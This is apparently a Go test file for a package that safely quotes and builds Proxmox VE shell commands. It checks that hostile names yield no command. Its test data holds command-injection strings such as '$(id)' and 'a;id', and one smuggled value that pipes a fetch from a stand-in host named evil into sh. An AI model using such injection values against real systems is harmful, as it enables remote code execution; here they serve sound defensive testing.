package shell

import (
	"context"
	"encoding/json"
	"os/exec"
	"strings"
	"testing"
)

var hostile = []string{
	"", "-rf", "a b", "a'b", `a"b`, "$(id)", "`id`", "a;id", "a|id", "a&id", "a>b", "a\\", "~", "~root", "*", "#", "a!b", "{a,b}", "a\tb", "é", "\x01", "a\nid",
}

// What a shell makes of a quoted word is the word.
func TestQuoteSurvivesAShell(t *testing.T) {
	for _, word := range hostile {
		out, err := exec.CommandContext(context.Background(), "sh", "-c", "printf %s "+Quote(word)).Output() //nolint:gosec // that is what is tested
		if err != nil || string(out) != word {
			t.Errorf("%q became %q: %v", word, out, err)
		}
	}
	for word, want := range map[string]string{"zfs:vm-1-disk-0": "zfs:vm-1-disk-0", "": "''", "labctl@pve!run": "'labctl@pve!run'", "it's": `'it'\''s'`} {
		if got := Quote(word); got != want {
			t.Errorf("Quote(%q) = %s, want %s", word, got, want)
		}
	}
}

func TestCommand(t *testing.T) {
	for _, test := range []struct {
		command Command
		want    string
	}{
		{New("pvesm", "free").Volume("zfs:base-9000-disk-0/vm-101-disk-0"), "pvesm free zfs:base-9000-disk-0/vm-101-disk-0"},
		{New("pvesm", "free").Volume("local:iso/labctl-lab-seed.iso").Note("if it is still there"), "pvesm free local:iso/labctl-lab-seed.iso   # if it is still there"},
		{New("qm", "unlock").VMID(101).Then(New("qm", "destroy").VMID(101).Words("--purge", "1")), "qm unlock 101; qm destroy 101 --purge 1"},
		{New("pveum", "acl", "modify").ACLPath("/vms/9000").Words("--tokens").TokenID("labctl@pve!run"), "pveum acl modify /vms/9000 --tokens 'labctl@pve!run'"},
		{New("pveum", "role", "add").Role("Labctl").Words("--privs").Privileges([]string{"VM.Audit", "VM.Config.CPU"}), "pveum role add Labctl --privs 'VM.Audit VM.Config.CPU'"},
		{New("pvesm", "set").Storage("local").Words("--content").Contents([]string{"images", "iso"}), "pvesm set local --content images,iso"},
		{New("pvesm", "set").Storage("local").Words("--nodes").Nodes([]string{"pve1", "pve2"}), "pvesm set local --nodes pve1,pve2"},
		{New("pveum").Add(New("user", "token")).Add(Command{}).Words("add"), "pveum user token add"},
		{New("true").Or(New("false")).And(New("true")), "true || false && true"},
		{New("cd").InHome(".labctl/a b").And(Script("kill -- -$(cat pid)")), "cd ~/'.labctl/a b' && kill -- -$(cat pid)"},
		{New("ls", "-l", "/a dir"), "ls -l '/a dir'"},
		{New("pveum", "pool", "add").Pool("lab/a/b"), "pveum pool add lab/a/b"},
		{New("qm", "set").VMID(100).Words("--name").VMName("vm-1.lan").Words("--delete").Key("scsi1"), "qm set 100 --name vm-1.lan --delete scsi1"},
		{New("x").Bridge("vmbr0").Node("pve").User("root@pam").Token("run"), "x vmbr0 pve root@pam run"},
	} {
		if got := test.command.String(); got != test.want || test.command.Err() != nil {
			t.Errorf("%s, want %s: %v", got, test.want, test.command.Err())
		}
	}
}

// A name that Proxmox VE cannot have given is in no command, quoted or not, whatever kind of name it is.
func TestOddNamesGiveNoCommand(t *testing.T) {
	kinds := map[string]func(Command, string) Command{
		"storage ID": Command.Storage, "volume ID": Command.Volume, "node name": Command.Node, "bridge name": Command.Bridge,
		"VM name": Command.VMName, "pool name": Command.Pool, "role name": Command.Role, "user ID": Command.User, "token name": Command.Token,
		"token ID": Command.TokenID, "ACL path": Command.ACLPath, "key of a VM's configuration": Command.Key,
		"privilege":    func(c Command, name string) Command { return c.Privileges([]string{"VM.Audit", name}) },
		"content type": func(c Command, name string) Command { return c.Contents([]string{name}) },
	}
	odd := append([]string{
		"zfs:vm-9400-disk-9;curl evil|sh #", "zfs:", "zfs:-rf", "/vms/1;id", "a@b c!d", "x:y\x1b[2J", "zfs:vm-1\nrm", "zfs:vm-1-disk-0\n",
	}, hostile...)
	for noun, add := range kinds {
		for _, name := range odd {
			if noun == "user ID" && name == "a@b" {
				continue
			}
			command := add(New("qm", "x"), name).Then(New("qm", "y"))
			got := command.String()
			if command.Err() == nil || !strings.HasPrefix(got, "# ") || !strings.Contains(got, noun) {
				t.Errorf("%s %q gives the command %s", noun, name, got)
			}
			if len(name) > 3 && strings.Contains(got, name) {
				t.Errorf("%s %q stands in %s", noun, name, got)
			}
		}
	}
	for _, id := range []int{-1, 0, 99, 1_000_000_000} {
		if got := New("qm", "destroy").VMID(id).String(); !strings.HasPrefix(got, "# ") {
			t.Errorf("VMID %d gives %s", id, got)
		}
	}
	if got := New("ls").Words("a\u202eb").String(); !strings.HasPrefix(got, "# ") {
		t.Errorf("a hidden character gives %s", got)
	}
}

func TestCommandInJSON(t *testing.T) {
	text, err := json.Marshal([]Command{New("qm", "unlock").VMID(100)})
	if err != nil || string(text) != `["qm unlock 100"]` {
		t.Errorf("%s, %v", text, err)
	}
	if got := Strings([]Command{New("a"), New("b")}); len(got) != 2 || got[1] != "b" {
		t.Errorf("%v", got)
	}
}
